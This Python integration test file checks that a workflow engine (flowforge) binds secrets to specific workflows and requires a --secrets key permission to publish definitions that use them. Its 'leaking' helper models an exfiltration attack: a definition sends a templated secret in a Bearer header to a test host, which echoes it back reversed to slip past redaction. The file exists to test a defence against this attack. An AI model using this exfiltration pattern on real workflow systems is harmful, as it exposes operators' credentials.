"""Secrets are bound to workflows (FLOWFORGE_SECRET_<NAME>_WORKFLOWS), and publishing a
definition that uses secrets at all needs a key created with --secrets.

The attack this closes: a key scoped to one workflow publishes a definition that sends
`{{ secrets.any_name }}` to a host it controls and reads it back, encoded any way it likes,
which no redactor can undo. Now the worker refuses to render a secret its workflow is not
bound to (the value is never read), and the API refuses such a definition at publish.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest

from flowforge.domain.definitions import DefinitionInvalid, parse_definition
from flowforge.store import apikeys
from flowforge.store.config import ConfigError, Settings
from tests.integration.test_secrets_never_persist import pg_dump
from tests.support.api import Api, step
from tests.support.definitions import http, transform, workflow
from tests.support.problems import assert_problem
from tests.support.processes import Process
from tests.support.target import Reply, Target

FLOWFORGE = Path(__file__).resolve().parents[2] / ".venv" / "bin" / "flowforge"


def leaking(target: Target, name: str = "tok") -> dict[str, Any]:
    """A definition that carries a secret to the target, which echoes it back base64'd."""
    bearer = {"Authorization": f"Bearer {{{{ secrets.{name} }}}}"}
    send = http("send", "GET", f"{target.url}/collect", headers=bearer, retry={"max_attempts": 1})
    return workflow(send, name="Sends a secret")


PLAIN = workflow(transform("t", {"x": "{{ input.x }}"}), name="No secrets")


def test_worker_refuses_a_secret_that_is_not_bound_to_the_workflow(
    client: Api, workers: Callable[..., Process], target: Target, database_url: str
) -> None:
    value = "tok" + secrets.token_hex(16)
    target.script = lambda r: Reply(json={"echo": r.headers.get("authorization", "")[::-1]})
    # Only the worker has the bindings here: the API cannot check at publish.
    worker = workers(FLOWFORGE_SECRET_TOK=value, FLOWFORGE_SECRET_TOK_WORKFLOWS="orders,billing")
    client.publish("thief", leaking(target))
    client.publish("orders", leaking(target))

    stolen = client.wait(client.start("thief", {}))
    assert stolen["status"] == "failed"
    send = step(stolen, "send")
    assert "secret 'tok' is not bound to workflow 'thief'" in send["error"], send["error"]
    assert "FLOWFORGE_SECRET_TOK_WORKFLOWS" in send["error"]
    assert target.received == []  # nothing left the worker

    allowed = client.wait(client.start("orders", {}))
    assert allowed["status"] == "succeeded", allowed
    [seen] = target.received
    assert seen.headers["authorization"] == f"Bearer {value}"
    # Why binding and not redaction: reversed, the echo passes any redactor. Only a
    # workflow the operator bound the secret to can do this.
    assert value[::-1] in step(allowed, "send")["output"]["body"]["echo"]

    places = {
        "API answers": client.text(f"/api/v1/executions/{stolen['id']}"),
        "worker log": worker.log(),
        "pg_dump": pg_dump(database_url),
    }
    for where, text in places.items():
        assert value not in text, where


@pytest.fixture
def bound_app(database_url: str) -> Iterator[Any]:
    """The app with `tok` bound to `orders` in its environment, as the worker has it."""
    from flowforge.api import create_app

    env = {"FLOWFORGE_DATABASE_URL": database_url, "FLOWFORGE_SECRET_TOK_WORKFLOWS": "orders"}
    app = create_app(Settings.from_env(env))
    app.extensions["flowforge.pool"].wait(timeout=10)
    yield app.test_client()
    app.extensions["flowforge.pool"].close()


def publish(client: Any, key: str, workflow: str, definition: dict[str, Any]) -> Any:
    return client.post(
        f"/api/v1/workflows/{workflow}/versions",
        json=definition,
        headers={"Authorization": f"Bearer {key}"},
    )


def test_publish_refuses_a_secret_bound_to_other_workflows(
    bound_app: Any, db: psycopg.Connection, target: Target
) -> None:
    _, key = apikeys.create(db, "scoped", ["billing", "orders"], publish_secrets=True)
    refused = assert_problem(publish(bound_app, key, "billing", leaking(target)), 422)
    [error] = refused["errors"]
    assert error["path"] == "$.steps[0].request.headers.Authorization"
    assert "not bound to workflow 'billing'" in error["message"]
    assert "FLOWFORGE_SECRET_TOK_WORKFLOWS" in error["message"]
    assert publish(bound_app, key, "orders", leaking(target)).status_code == 201
    # A name the API has no binding for is left to the worker (which refuses it too).
    assert publish(bound_app, key, "orders", leaking(target, "other")).status_code == 201
    versions = db.execute("SELECT count(*) FROM workflow_versions").fetchone()[0]
    assert versions == 2


def test_publishing_secrets_needs_the_key_permission(
    bound_app: Any, db: psycopg.Connection, target: Target
) -> None:
    """A scoped key without --secrets cannot reach any secret, not even a bound one."""
    _, scoped = apikeys.create(db, "scoped", ["orders"])
    body = assert_problem(publish(bound_app, scoped, "orders", leaking(target)), 403)
    assert "--secrets" in body["detail"]
    assert publish(bound_app, scoped, "orders", PLAIN).status_code == 201
    _, everything = apikeys.create(db, "admin")  # unscoped is not enough either
    assert_problem(publish(bound_app, everything, "orders", leaking(target)), 403)
    assert db.execute("SELECT count(*) FROM workflow_versions").fetchone()[0] == 1


def cli(database_url: str, *args: str, env: dict[str, str] | None = None) -> Any:
    return subprocess.run(
        [str(FLOWFORGE), *args],
        env={**os.environ, **(env or {}), "FLOWFORGE_DATABASE_URL": database_url},
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )


def test_cli_creates_keys_with_the_secrets_permission_and_checks_bindings(
    bound_app: Any, database_url: str, target: Target, tmp_path: Path
) -> None:
    created = cli(database_url, "apikey", "create", "--name", "deployer", "--secrets")
    assert created.returncode == 0, created.stderr
    key = created.stdout.strip().splitlines()[-1]
    assert publish(bound_app, key, "orders", leaking(target)).status_code == 201
    listed = cli(database_url, "apikey", "list")
    assert "+secrets" in listed.stdout and "deployer" in listed.stdout

    document = tmp_path / "billing.json"
    document.write_text(json.dumps(leaking(target)))
    bound = {"FLOWFORGE_SECRET_TOK_WORKFLOWS": "orders"}
    refused = cli(database_url, "workflow", "publish", str(document), env=bound)
    assert refused.returncode == 2
    assert "$.steps[0].request.headers.Authorization" in refused.stderr


def test_bindings_must_name_workflow_keys() -> None:
    with pytest.raises(ConfigError, match="FLOWFORGE_SECRET_TOK_WORKFLOWS"):
        Settings.from_env({"FLOWFORGE_SECRET_TOK_WORKFLOWS": "orders, Not A Key"})
    settings = Settings.from_env({"FLOWFORGE_SECRET_hooks_token_WORKFLOWS": " a,b ,"})
    assert settings.secret_bindings == {"HOOKS_TOKEN": frozenset({"a", "b"})}


def test_secret_names_cannot_collide_with_binding_variables(target: Target) -> None:
    """FLOWFORGE_SECRET_X_WORKFLOWS is the binding of x, so no secret may be x_workflows."""
    with pytest.raises(DefinitionInvalid) as invalid:
        parse_definition(leaking(target, "x_workflows"))
    assert invalid.value.errors[0]["path"] == "$.steps[0].request.headers.Authorization"
